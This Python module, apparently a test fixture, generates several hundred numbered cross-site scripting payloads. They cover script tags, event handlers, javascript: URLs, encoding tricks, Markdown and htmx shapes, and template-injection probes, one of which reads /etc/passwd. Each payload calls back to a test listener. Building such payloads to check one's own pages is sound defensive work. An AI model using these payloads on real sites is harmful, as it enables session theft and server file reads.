"""What somebody types who wants our pages to run it: more than three hundred, each with its number.

A payload that comes to life sets `xss`, opens a dialog or asks the address it is given, which a test
listens at. Shapes after OWASP's list, PortSwigger's, and the ways of Markdown, templates and htmx.
"""

JS = "window.xss=(window.xss||[]).concat('{n}');fetch('{url}/js{n}')"
SHAPES = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src={url}/s{n}></script>",
    "<script/src='{url}/s{n}'/>",
    "</script><script>{js}</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</style><script>{js}</script>",
    "--><script>{js}</script><!--",
    "]]><script>{js}</script>",
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    "<img src=x onerror={bare}>",
    '<img src="x" onerror="{bare}">',
    "<img src={url}/i{n}>",
    "<img srcset='{url}/i{n} 2x'>",
    '"><img src=x onerror={bare}>',
    "<svg onload={bare}>",
    "<svg/onload={bare}//",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={bare} attributeName=x dur=1s>",
    "<svg><use href='{url}/u{n}#x'/></svg>",
    "<svg><image href='{url}/u{n}'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={bare}>",
    "<svg></p><style><a id='</style><img src=x onerror={bare}>'>",
    "<noscript><p title='</noscript><img src=x onerror={bare}>'>",
    "<body onload={bare}>",
    "<iframe src='javascript:{bare}'></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src={url}/f{n}></iframe>",
    "<object data={url}/o{n}></object>",
    "<embed src={url}/e{n}>",
    "<video src={url}/v{n} autoplay></video>",
    "<video><source onerror={bare}></video>",
    "<audio src=x onerror={bare}>",
    "<details open ontoggle={bare}>",
    "<input autofocus onfocus={bare}>",
    "<select autofocus onfocus={bare}>",
    "<marquee onstart={bare}>",
    "<div style='background:url({url}/b{n})'>",
    "<style>@import '{url}/c{n}';</style>",
    "<style>*{{background:url({url}/c{n})}}</style>",
    "<link rel=stylesheet href={url}/l{n}>",
    "<link rel=prefetch href={url}/l{n}>",
    "<meta http-equiv=refresh content='0;url={url}/m{n}'>",
    "<base href='{url}/'>",
    "<form action={url}/p{n}><button autofocus>x</button></form>",
    "<button formaction='javascript:{bare}'>x</button>",
    "<a href='javascript:{bare}' autofocus>x</a>",
    "<template><script>{js}</script></template>",
    "<plaintext onload={bare}>",
    "<x contenteditable autofocus onfocus={bare}>x",
    '" autofocus onfocus="{bare}" x="',
    "' autofocus onfocus='{bare}' x='",
    '" style="background:url({url}/b{n})',
    "` onmouseover={bare} `",
    "javascript:{bare}",
    "JaVaScRiPt:{bare}",
    "java\tscript:{bare}",
    "data:text/html,<script>{js}</script>",
    "vbscript:msgbox({n})",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "%3Cscript%3E{js}%3C/script%3E",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "{{{{7*7}}}} {{{{config}}}} {{% include '/etc/passwd' %}}",
    "${{7*7}} #{{7*7}} <%= 7*7 %>",
    "{{{{''.__class__.__mro__}}}}",
    "%s%s%n {{0}} {{name}} %(name)s",
    "[x](javascript:{bare})",
    "![x]({url}/md{n})",
    "[x]: {url}/md{n} '\"><script>{js}</script>'",
    "<javascript:{bare}>",
    "**<img src=x onerror={bare}>**",
    "`<script>{js}</script>`",
    "```html\n<script>{js}</script>\n```",
    "> <script>{js}</script>",
    "<div hx-get='{url}/hx{n}' hx-trigger=load></div>",
    "<div data-hx-get='{url}/hx{n}' data-hx-trigger='load'></div>",
    "<div hx-on::load='{bare}' hx-get='/floor' hx-trigger='load'></div>",
    "<a hx-boost=true hx-vals='js:{{x:{bare}}}' hx-get=/ hx-trigger=load>x</a>",
    "<img src=x hx-on:error='{bare}'>",
    "\u202e<script>{js}</script>",
    "<scr\x00ipt>{js}</scr\x00ipt>",
    "<img\x0bsrc=x\x0conerror={bare}>",
    "<<script>{js}//<</script>",
    "<a href='{url}/a{n}' ping='{url}/ping{n}' autofocus>x</a>",
    "<area href='javascript:{bare}'>",
    "<isindex action=javascript:{bare}>",
    "<frameset onload={bare}>",
    "<table background='{url}/t{n}'>",
    "<input type=image src={url}/in{n}>",
    "<track src={url}/tr{n}>",
    "<dialog open onclose={bare}><form method=dialog>",
    "<portal src={url}/po{n}></portal>",
    "<html manifest={url}/ma{n}>",
    "<xss onpointerrawupdate={bare} style='position:fixed;inset:0'>",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></foreignObject></svg>",
)
HOWS = (
    ("{js}", "{bare}"),
    ("alert({n});{js}", "alert({n})"),
    ("new Image().src='{url}/im{n}'", "new/**/Image().src=`{url}/im{n}`"),
)
"""What it does once it runs: calls out, opens a dialog, loads a picture."""


def payloads(url):
    """All of them for a listener at `url`, each with the number that it calls by."""
    made = []
    for shape in SHAPES:
        for js, bare in HOWS:
            n = f"{len(made):03d}"
            own = JS.format(n=n, url=url)
            does = js.format(js=own, n=n, url=url)
            short = bare.format(bare=f"window.xss=[{len(made)}]", n=n, url=url)
            made.append(f"p{n}:" + shape.format(js=does, bare=short, n=n, url=url))
    return made
